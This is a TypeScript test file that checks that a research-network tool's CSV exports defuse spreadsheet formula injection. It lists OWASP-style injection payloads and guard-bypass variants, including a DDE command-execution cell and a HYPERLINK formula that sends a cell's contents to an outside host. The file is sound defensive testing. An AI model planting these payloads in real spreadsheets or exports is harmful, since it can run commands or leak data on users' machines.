import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { unguarded } from '../../../src/lib/csv.ts';
import { noFilters } from '../../../src/model/filters.ts';
import type { Notice } from '../../../src/model/notice.ts';
import { defaultSettings } from '../../../src/model/settings.ts';
import { sortColumns, type TableKind } from '../../../src/model/table.ts';
import { answerFor } from '../../../src/work/answers.ts';
import { peopleFile } from '../../../src/work/peopleFile.ts';
import { studyOf, type Study } from '../../../src/work/study.ts';
import { written } from '../../graphRoundTrip.ts';
import { paper } from '../../papers.ts';

/** Begins of cells that run something, after OWASP's page on CSV injection, and ways around a guard at the beginning. */
const payloads = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '=HYPERLINK("http://example.org?x="&A1,"x")',
  "=cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u{e0041}=1+1',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a|=1+1',
  'a; @SUM(1)',
  '","=1+1',
  '";=1+1',
  'a"\n"=1+1',
];

const isFormula = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell);
const isNumber = (cell: string): boolean => /^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/.test(cell);

/** Every text that a user or a file may write. */
function studyWith(text: string): Study {
  const slot = (name: string) => ({ raw: name, kind: 'person' as const, affiliations: [{ name: text }] });
  const one = (at: number) =>
    paper([slot(text), slot(`${text} ${at}`), slot('Ann Lee')], '2001', {
      title: text,
      venue: text,
      abstract: text,
      keywords: [text, 'reefs'],
      categories: [text],
      ids: { doi: text },
      provenance: { file: text, line: 1 },
    });
  const papers = [one(1), one(2), one(3)];
  const records = { in: 3, accepted: 3, merged: 0, rejected: 0 };
  const notice: Notice = { severity: 'error', code: text, message: text, file: text, line: 1, hint: text };
  const files = [{ name: text, format: text, encoding: 'utf-8', records, notices: [notice] }];
  const corpus = { papers, records: papers, lists: [], files, cutLists: [] };
  const topicEdits = [{ type: 'rename' as const, topic: text, label: text }] as never;
  return studyOf(corpus, { ...defaultSettings, topics: 'keywords', topicEdits }, () => undefined);
}

async function tablesOf(study: Study): Promise<[name: string, text: string][]> {
  const formats = ['nodes-csv', 'edges-csv', 'topics-csv', 'papers-csv'] as const;
  const graph = formats.map((format): [string, string] => [format, written(study, format)]);
  const people = [...peopleFile(study, 'people-csv').chunks].join('');
  const window = { from: -1e6, to: 1e6, undated: true };
  const kinds: readonly TableKind[] = ['authors', 'ties', 'topics', 'papers'];
  const pages = kinds.map(async (of): Promise<[string, string]> => {
    const order = { sort: { column: sortColumns[of][0], descending: false }, text: '' };
    const wish = { of, format: 'csv', sight: { window, filters: noFilters }, ...order };
    const blob = await (answerFor(study, 'tableFile', wish) as Promise<Blob>);
    return [`table of ${of}`, await blob.text()];
  });
  const report = await (answerFor(study, 'report', undefined) as Blob).text();
  return [...graph, ['people', people], ['report', report], ...(await Promise.all(pages))];
}

test.each(payloads)(
  '%j in every text is a formula in no table, whichever separator a program takes',
  async (payload) => {
    const study = studyWith(payload);
    for (const [name, text] of await tablesOf(study)) {
      const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n' });
      expect([name, data.flat().filter((cell) => isFormula(cell) && !isNumber(cell))]).toEqual([name, []]);
      expect(text.includes('1') || name === 'table of topics').toBe(true);
      // A program that takes semicolons, bars or tabs for separators cuts at any of them, and at every line end.
      const cut = text.replace(/^\uFEFF/, '').split(/[;|\t\r\n]+/);
      expect([name, cut.filter(isFormula)]).toEqual([name, []]);
    }
  },
);

test('raw cells are as they stand in the papers', () => {
  const study = studyWith('=1+1');
  const { data } = Papa.parse<string[]>(written(study, 'nodes-csv', true).slice(1), { delimiter: ',' });
  expect(data.flat()).toContain('=1+1');
  const [guarded] = Papa.parse<string[]>(written(study, 'nodes-csv').slice(1), { delimiter: ',' }).data.slice(1);
  expect(guarded!.map(unguarded)).toContain(study.network.authors[0]!.name);
});
